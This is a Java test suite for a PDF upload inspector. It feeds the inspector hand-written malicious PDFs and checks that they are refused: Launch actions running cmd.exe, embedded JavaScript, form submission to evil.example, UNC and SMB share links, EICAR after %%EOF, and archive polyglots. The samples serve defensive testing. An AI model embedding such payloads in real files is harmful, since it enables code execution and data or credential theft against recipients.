package org.tongban.storage.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.tongban.storage.SampleFiles.concat;
import static org.tongban.storage.SampleFiles.eicar;
import static org.tongban.storage.SampleFiles.handWrittenPdf;
import static org.tongban.storage.SampleFiles.html;
import static org.tongban.storage.SampleFiles.jpeg;
import static org.tongban.storage.SampleFiles.ofd;
import static org.tongban.storage.SampleFiles.pdf;
import static org.tongban.storage.SampleFiles.png;
import static org.tongban.storage.SampleFiles.stream;
import static org.tongban.storage.SampleFiles.text;
import static org.tongban.storage.SampleFiles.zip;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.Random;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.util.unit.DataSize;
import org.tongban.storage.AttachmentRefusedException;
import org.tongban.storage.AttachmentRefusedException.Reason;
import org.tongban.storage.AttachmentType;

/**
 * Active content is refused wherever a PDF writes it: inline in the catalog, a page, an
 * annotation, a name tree, a stream's dictionary, the trailer, or in no place reachable
 * at all; so are data after the end of the file and archives hidden in it (R3.3, ASVS
 * 5.2.2). The PDFs are written by hand, as the attacker wrote them.
 */
class PdfInspectionTests {

	private final ContentInspection inspection = new ContentInspection(DataSize.ofMegabytes(20));

	@ParameterizedTest(name = "{0}")
	@DisplayName("R3.3, ASVS 5.2.2: an active action or content written inline anywhere is refused, by its name")
	@CsvSource(delimiter = '|',
			textBlock = """
					an inline /OpenAction dictionary     | JavaScript     | /OpenAction << /S /JavaScript /JS (app.alert(1)) >>                                      |
					an inline /OpenAction without /JS    | Launch         | /OpenAction << /S /Launch /F (cmd.exe) >>                                                 |
					an inline /Names tree of scripts     | JavaScript     | /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 4 0 R >>] >> >>               |
					an inline /Names tree of files       | EmbeddedFiles  | /Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>     |
					an action deep in arrays             | SubmitForm     | /Foo [[[ << /S /SubmitForm /F (https://evil.example/) >> ]]]                            |
					an action whose name is escaped      | Launch         | /OpenAction << /S /L#61unch /F (calc.exe) >>                                              |
					an XFA form                          | XFA            | /AcroForm << /Fields [] /XFA 4 0 R >>                                                     |
					an action reading another file       | GoToR          | /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>              |
					an import of data                    | ImportData     | /OpenAction << /S /ImportData /F (data.fdf) >>                                            |
					a chain of actions                   | JavaScript     | /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (x) >>] >>           |
					""")
	void activeContentInTheCatalogIsRefused(String where, String found, String catalog) {
		assertActive(handWrittenPdf(catalog, "", "<< /Length 0 >>\nstream\n\nendstream"), found);
	}

	@ParameterizedTest(name = "{0}")
	@DisplayName("R3.3, ASVS 5.2.2: an active action on a page, an annotation or a stream is refused")
	@CsvSource(delimiter = '|',
			textBlock = """
					a page's /AA                          | Launch          | /AA << /O << /S /Launch /F (cmd.exe) >> >>                                                              |
					an annotation's inline /A             | JavaScript      | /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (x) >> >>]           |
					a widget's keystroke script           | JS              | /Annots [<< /Subtype /Widget /Rect [0 0 9 9] /AA << /K << /JS (x) >> >> >>]                          |
					a rich media annotation               | RichMedia       | /Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]                                                    |
					a file attachment annotation          | FileAttachment  | /Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>]                        |
					a link playing media                  | Rendition       | /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>]                          |
					""")
	void activeContentOnThePageIsRefused(String where, String found, String page) {
		assertActive(handWrittenPdf("", page), found);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: an action in a stream's dictionary, in the trailer or in no place reachable is refused")
	void activeContentOutsideTheDocumentIsRefused() {
		assertActive(handWrittenPdf("", "/Resources << /XObject << /X 4 0 R >> >>",
				stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /AA << /O << /S /JavaScript /JS (x) >> >>",
						new byte[0])),
				"JavaScript");
		assertActive(handWrittenPdf("", "", stream("/Type /EmbeddedFile", text("MZ"))), "EmbeddedFile");
		// Referred to from nowhere: a viewer repairing the file would find it all the
		// same.
		assertActive(handWrittenPdf("", "", "<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript");
		byte[] trailer = new String(handWrittenPdf("", ""), StandardCharsets.ISO_8859_1)
			.replace("/Root 1 0 R", "/Root 1 0 R /Info << /S /Launch /F (cmd.exe) >>")
			.getBytes(StandardCharsets.ISO_8859_1);
		assertActive(trailer, "Launch");
	}

	@Test
	@DisplayName("R3.3: links to web pages and e-mail, page jumps and the PDFs PDFBox writes are accepted")
	void harmlessActionsAreAccepted() throws IOException {
		assertThat(typeOf(handWrittenPdf("/OpenAction [3 0 R /Fit]",
				"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.cn/) >> >> "
						+ "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:zwfw@d.gov.cn) >> >> "
						+ "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /NextPage >> >>]")))
			.isEqualTo(AttachmentType.PDF);
		assertThat(typeOf(concat(pdf("trailing whitespace"), text("\r\n  \n")))).isEqualTo(AttachmentType.PDF);
	}

	@ParameterizedTest
	@DisplayName("R3.3, ASVS 5.2.2: a link to a file, a network share or a script is refused")
	@CsvSource(delimiter = '|', textBlock = """
			file:///C:/Windows/System32/cmd.exe
			\\\\\\\\evil.example\\\\share
			javascript:alert(1)
			smb://evil.example/share
			""")
	void aLinkOutsideTheWebIsRefused(String link) {
		byte[] pdf = handWrittenPdf("",
				"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (" + link + ") >> >>]");

		assertRefused(pdf, Reason.PDF_UNSAFE_LINK);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: EICAR, an archive or a page after %%EOF is refused")
	void dataAfterTheEndOfFileIsRefused() {
		assertRefused(concat(pdf("carrier"), eicar()), Reason.PDF_APPENDED_DATA);
		assertRefused(concat(pdf("carrier"), zip(Map.of("setup.exe", text("MZ")))), Reason.PDF_APPENDED_DATA);
		assertRefused(concat(pdf("carrier"), text("\n"), html()), Reason.PDF_APPENDED_DATA);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: a PDF that is also a ZIP, a RAR or a 7z is refused")
	void aPdfHidingAnArchiveIsRefused() {
		byte[] archive = zip(Map.of("setup.exe", text("MZ")));
		assertRefused(handWrittenPdf("", "", stream("", archive)), Reason.POLYGLOT);
		// Only the end record of a ZIP, which is what archivers look for.
		assertRefused(
				handWrittenPdf("", "", stream("", Arrays.copyOfRange(archive, archive.length - 22, archive.length))),
				Reason.POLYGLOT);
		assertRefused(handWrittenPdf("", "", stream("", new byte[] { 'R', 'a', 'r', '!', 0x1A, 0x07, 0, 1, 2 })),
				Reason.POLYGLOT);
		assertRefused(
				handWrittenPdf("", "", stream("", new byte[] { '7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4 })),
				Reason.POLYGLOT);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: an image hiding an archive is refused")
	void anImageHidingAnArchiveIsRefused() {
		byte[] archive = zip(Map.of("setup.exe", text("MZ")));
		assertRefused(concat(png(32, 32), archive), Reason.POLYGLOT);
		assertRefused(concat(jpeg(32, 32), archive), Reason.POLYGLOT);
	}

	@Test
	@DisplayName("R3.3: compressed data in which a ZIP signature appears by chance is no archive")
	void aZipSignatureByChanceIsNoArchive() throws IOException {
		byte[] noise = new byte[4 * 1024 * 1024];
		new Random(12).nextBytes(noise);
		byte[] falseStart = { 'P', 'K', 3, 4, (byte) 0xFF, (byte) 0xFF, 0, 0, 0, 0 };

		assertThat(typeOf(handWrittenPdf("", "", stream("/Filter /FlateDecode", concat(falseStart, noise)))))
			.isEqualTo(AttachmentType.PDF);
		assertThat(typeOf(ofd())).isEqualTo(AttachmentType.OFD);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: a web page or a script before %PDF is not taken for a PDF")
	void aPageBeforeThePdfIsNotAllowed() {
		assertRefused(concat(html(), text("\n"), pdf("behind a page")), Reason.TYPE_NOT_ALLOWED);
		assertRefused(concat(text(" "), pdf("one space")), Reason.TYPE_NOT_ALLOWED);
	}

	@Test
	@DisplayName("R3.3, ASVS 5.2.2: a PDF nested too deep or with too many objects to walk is refused, not passed")
	void aPdfBeyondTheBoundsIsRefused() {
		String[] chain = new String[PdfInspection.MAX_DEPTH];
		for (int i = 0; i < chain.length; i++) {
			chain[i] = "[" + (i + 5) + " 0 R]";
		}
		assertRefused(handWrittenPdf("/Deep 4 0 R", "", chain), Reason.PDF_TOO_COMPLEX);
		assertRefused(handWrittenPdf("/Deep " + "[".repeat(100_000) + "]".repeat(100_000), ""), Reason.PDF_CORRUPT);
		// A script in an object nested deeper than PDFBox parses, which a viewer might
		// parse all the same.
		String nested = "[".repeat(5_000) + "]".repeat(5_000);
		assertRefused(handWrittenPdf("", "", "<< /S /JavaScript /JS (x) /Junk " + nested + " >>"), Reason.PDF_CORRUPT);
		assertRefused(
				handWrittenPdf("", "/Annots [4 0 R]",
						"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> /Junk " + nested + " >>"),
				Reason.PDF_CORRUPT);

		String many = "[" + "[]".repeat(PdfInspection.MAX_OBJECTS + 1) + "]";
		assertRefused(handWrittenPdf("/Many " + many, ""), Reason.PDF_TOO_COMPLEX);
	}

	private void assertActive(byte[] pdf, String found) {
		AttachmentRefusedException refusal = assertRefused(pdf, Reason.PDF_ACTIVE_CONTENT);
		assertThat(refusal.messageArgs()).containsExactly(found);
	}

	private AttachmentType typeOf(byte[] file) throws IOException {
		return ContentInspectionTests.typeOf(inspection, file);
	}

	private AttachmentRefusedException assertRefused(byte[] file, Reason reason) {
		return ContentInspectionTests.assertRefused(inspection, file, reason);
	}

}
